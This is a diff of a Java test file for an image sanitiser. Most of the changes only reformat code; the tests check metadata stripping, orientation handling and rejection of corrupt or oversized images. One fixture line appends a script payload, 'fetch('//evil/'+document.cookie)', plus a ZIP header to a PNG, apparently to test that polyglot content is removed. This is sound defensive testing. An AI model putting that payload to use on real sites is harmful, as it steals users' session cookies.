@@ -1,7 +1,6 @@
 package io.stockade.platform.media;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
 import io.stockade.platform.media.ImageSanitiser.ImageRejectedException;
@@ -16,7 +15,6 @@ import java.io.IOException;
 import java.io.InputStream;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
-import java.time.Duration;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.Base64;
@@ -34,11 +32,12 @@ class ImageSanitiserTest {
      * half sRGB (200,40,30), right half (20,60,180). Real-world bytes, because a JDK-written CMYK file
      * would only test the JDK against itself.
      */
-    private static final String CMYK_JPEG = "/9j/7gAOQWRvYmUAZAAAAAAC/9sAQwACAQEBAQECAQEBAgICAgIEAwICAgIFBAQDBAYFBgYGBQYGBgcJCAYHCQcGBggL"
-            + "CAkKCgoKCgYICwwLCgwJCgoK/9sAQwECAgICAgIFAwMFCgcGBwoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoK"
-            + "CgoKCgoKCgoKCgoKCgoKCgoK/8AAFAgACAAQBAERAAIRAQMRAQQRAP/EABUAAQEAAAAAAAAAAAAAAAAAAAcJ/8QAFBAB"
-            + "AAAAAAAAAAAAAAAAAAAAAP/EABYBAQEBAAAAAAAAAAAAAAAAAAoICf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAOBAEA"
-            + "AhEDEQQAAD8AQFSMY1IDAO+SIL3/2Q==";
+    private static final String CMYK_JPEG =
+            "/9j/7gAOQWRvYmUAZAAAAAAC/9sAQwACAQEBAQECAQEBAgICAgIEAwICAgIFBAQDBAYFBgYGBQYGBgcJCAYHCQcGBggL"
+                    + "CAkKCgoKCgYICwwLCgwJCgoK/9sAQwECAgICAgIFAwMFCgcGBwoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoK"
+                    + "CgoKCgoKCgoKCgoKCgoKCgoK/8AAFAgACAAQBAERAAIRAQMRAQQRAP/EABUAAQEAAAAAAAAAAAAAAAAAAAcJ/8QAFBAB"
+                    + "AAAAAAAAAAAAAAAAAAAAAP/EABYBAQEBAAAAAAAAAAAAAAAAAAoICf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAOBAEA"
+                    + "AhEDEQQAAD8AQFSMY1IDAO+SIL3/2Q==";
 
     private final ImageSanitiser sanitiser = new ImageSanitiser();
 
@@ -49,7 +48,9 @@ class ImageSanitiserTest {
         byte[] clean = jpeg(opaque(64, 48, new Color(30, 120, 200)));
         byte[] tainted = insertAfterSoi(clean, exifApp1(MARKER), comSegment(MARKER));
         assertThat(contains(tainted, ascii(MARKER))).isTrue();
-        assertThat(ImageIO.read(new ByteArrayInputStream(tainted))).as("fixture must be a valid JPEG").isNotNull();
+        assertThat(ImageIO.read(new ByteArrayInputStream(tainted)))
+                .as("fixture must be a valid JPEG")
+                .isNotNull();
 
         Sanitised result = sanitiser.sanitise(tainted);
 
@@ -67,7 +68,9 @@ class ImageSanitiserTest {
         byte[] trailing = ascii("<script>fetch('//evil/'+document.cookie)</script>PK\u0003\u0004" + MARKER);
         for (BufferedImage source : List.of(opaque(40, 30, Color.ORANGE), translucent(40, 30))) {
             byte[] tainted = concat(insertChunkAfterIhdr(png(source), "tEXt", ascii("Comment\0" + MARKER)), trailing);
-            assertThat(ImageIO.read(new ByteArrayInputStream(tainted))).as("fixture must be a valid PNG").isNotNull();
+            assertThat(ImageIO.read(new ByteArrayInputStream(tainted)))
+                    .as("fixture must be a valid PNG")
+                    .isNotNull();
 
             Sanitised result = sanitiser.sanitise(tainted);
 
@@ -83,7 +86,8 @@ class ImageSanitiserTest {
 
     @Test
     void opaquePngIsReencodedAsJpegAndTransparentPngStaysPng() throws Exception {
-        assertThat(sanitiser.sanitise(png(opaque(20, 20, Color.GREEN))).contentType()).isEqualTo("image/jpeg");
+        assertThat(sanitiser.sanitise(png(opaque(20, 20, Color.GREEN))).contentType())
+                .isEqualTo("image/jpeg");
 
         Sanitised result = sanitiser.sanitise(png(translucent(20, 20)));
 
@@ -102,8 +106,8 @@ class ImageSanitiserTest {
         byte[] g = {0, 0};
         byte[] b = {0, 0};
         byte[] a = {0, (byte) 255};
-        BufferedImage indexed = new BufferedImage(10, 10, BufferedImage.TYPE_BYTE_INDEXED,
-                new IndexColorModel(1, 2, r, g, b, a));
+        BufferedImage indexed =
+                new BufferedImage(10, 10, BufferedImage.TYPE_BYTE_INDEXED, new IndexColorModel(1, 2, r, g, b, a));
         indexed.getRaster().setSample(7, 7, 0, 1);
 
         Sanitised result = sanitiser.sanitise(png(indexed));
@@ -170,10 +174,12 @@ class ImageSanitiserTest {
         }
         byte[] png = png(stored);
         for (int orientation = 1; orientation <= 8; orientation++) {
-            BufferedImage shown = ImageSanitiser.ExifOrientation.apply(
-                    ImageIO.read(new ByteArrayInputStream(png)), orientation);
+            BufferedImage shown =
+                    ImageSanitiser.ExifOrientation.apply(ImageIO.read(new ByteArrayInputStream(png)), orientation);
             int[] corner = expectedCorner[orientation - 1];
-            assertThat(shown.getRGB(corner[0], corner[1]) & 0xFFFFFF).as("orientation %d", orientation).isZero();
+            assertThat(shown.getRGB(corner[0], corner[1]) & 0xFFFFFF)
+                    .as("orientation %d", orientation)
+                    .isZero();
             assertThat(shown.getWidth()).isEqualTo(orientation >= 5 ? 20 : 40);
         }
     }
@@ -182,8 +188,11 @@ class ImageSanitiserTest {
     void malformedExifIsTreatedAsUpright() throws Exception {
         byte[] stored = jpeg(opaque(40, 20, Color.GRAY));
         byte[][] broken = {
-            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'M', 'M', 0, 42, 0x7F, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF})),
-            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'M', 'M', 0, 42, 0, 0, 0, 8, (byte) 0xFF, (byte) 0xFF})),
+            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {
+                'M', 'M', 0, 42, 0x7F, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF
+            })),
+            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'M', 'M', 0, 42, 0, 0, 0, 8, (byte) 0xFF, (byte) 0xFF
+            })),
             segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'X', 'X'})),
             segment(0xE1, ascii("Exif")),
         };
@@ -267,7 +276,8 @@ class ImageSanitiserTest {
     void streamOverloadStopsReadingAtTheCap() {
         CountingEndlessStream endless = new CountingEndlessStream();
 
-        ImageRejectedException e = catchThrowableOfType(ImageRejectedException.class, () -> sanitiser.sanitise(endless));
+        ImageRejectedException e =
+                catchThrowableOfType(ImageRejectedException.class, () -> sanitiser.sanitise(endless));
 
         assertThat(e.reason()).isEqualTo("too-large");
         assertThat(endless.read).isLessThanOrEqualTo(ImageSanitiser.MAX_BYTES + 1L);
@@ -291,7 +301,8 @@ class ImageSanitiserTest {
         assertRejected(pngHeaderOnly(100, 100), "corrupt");
         assertRejected(pngHeaderOnly(0, 100), "corrupt");
         assertRejected(concat(Arrays.copyOf(pngQuietly(opaque(4, 4, Color.RED)), 8), new byte[64]), "corrupt");
-        assertRejected(concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, ascii("garbage".repeat(20))), "corrupt");
+        assertRejected(
+                concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, ascii("garbage".repeat(20))), "corrupt");
         byte[] jpeg = jpeg(opaque(16, 16, Color.BLUE));
         assertRejected(Arrays.copyOf(jpeg, 40), "corrupt");
     }
@@ -377,9 +388,15 @@ class ImageSanitiserTest {
     private static void assertPixel(BufferedImage image, int x, int y, Color expected, int tolerance) {
         Color actual = new Color(image.getRGB(x, y), true);
         assertThat(actual.getAlpha()).isEqualTo(255);
-        assertThat(Math.abs(actual.getRed() - expected.getRed())).as("red of %s", actual).isLessThanOrEqualTo(tolerance);
-        assertThat(Math.abs(actual.getGreen() - expected.getGreen())).as("green of %s", actual).isLessThanOrEqualTo(tolerance);
-        assertThat(Math.abs(actual.getBlue() - expected.getBlue())).as("blue of %s", actual).isLessThanOrEqualTo(tolerance);
+        assertThat(Math.abs(actual.getRed() - expected.getRed()))
+                .as("red of %s", actual)
+                .isLessThanOrEqualTo(tolerance);
+        assertThat(Math.abs(actual.getGreen() - expected.getGreen()))
+                .as("green of %s", actual)
+                .isLessThanOrEqualTo(tolerance);
+        assertThat(Math.abs(actual.getBlue() - expected.getBlue()))
+                .as("blue of %s", actual)
+                .isLessThanOrEqualTo(tolerance);
     }
 
     private static BufferedImage opaque(int width, int height, Color colour) {
@@ -404,9 +421,15 @@ class ImageSanitiserTest {
     private static byte[] exifOrientation(int orientation, boolean littleEndian) {
         java.nio.ByteOrder order = littleEndian ? java.nio.ByteOrder.LITTLE_ENDIAN : java.nio.ByteOrder.BIG_ENDIAN;
         ByteBuffer tiff = ByteBuffer.allocate(26).order(order);
-        tiff.put(littleEndian ? ascii("II") : ascii("MM")).putShort((short) 42).putInt(8)
+        tiff.put(littleEndian ? ascii("II") : ascii("MM"))
+                .putShort((short) 42)
+                .putInt(8)
                 .putShort((short) 1)
-                .putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0)
+                .putShort((short) 0x0112)
+                .putShort((short) 3)
+                .putInt(1)
+                .putShort((short) orientation)
+                .putShort((short) 0)
                 .putInt(0);
         return segment(0xE1, concat(ascii("Exif\0\0"), tiff.array()));
     }
@@ -464,18 +487,30 @@ class ImageSanitiserTest {
 
     /** Just the signature, an IHDR (8-bit RGBA) and the start of an IDAT that never finishes. */
     private static byte[] pngHeaderOnly(int width, int height) {
-        byte[] ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height)
-                .put((byte) 8).put((byte) 6).put((byte) 0).put((byte) 0).put((byte) 0).array();
+        byte[] ihdr = ByteBuffer.allocate(13)
+                .putInt(width)
+                .putInt(height)
+                .put((byte) 8)
+                .put((byte) 6)
+                .put((byte) 0)
+                .put((byte) 0)
+                .put((byte) 0)
+                .array();
         byte[] truncatedIdat = Arrays.copyOf(chunk("IDAT", new byte[] {0x78, (byte) 0x9C, 0, 0}), 10);
-        return concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, chunk("IHDR", ihdr), truncatedIdat);
+        return concat(
+                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, chunk("IHDR", ihdr), truncatedIdat);
     }
 
     private static byte[] chunk(String type, byte[] data) {
         CRC32 crc = new CRC32();
         crc.update(ascii(type));
         crc.update(data);
-        return ByteBuffer.allocate(12 + data.length).putInt(data.length).put(ascii(type)).put(data)
-                .putInt((int) crc.getValue()).array();
+        return ByteBuffer.allocate(12 + data.length)
+                .putInt(data.length)
+                .put(ascii(type))
+                .put(data)
+                .putInt((int) crc.getValue())
+                .array();
     }
 
     private static byte[] insertChunkAfterIhdr(byte[] png, String type, byte[] data) {
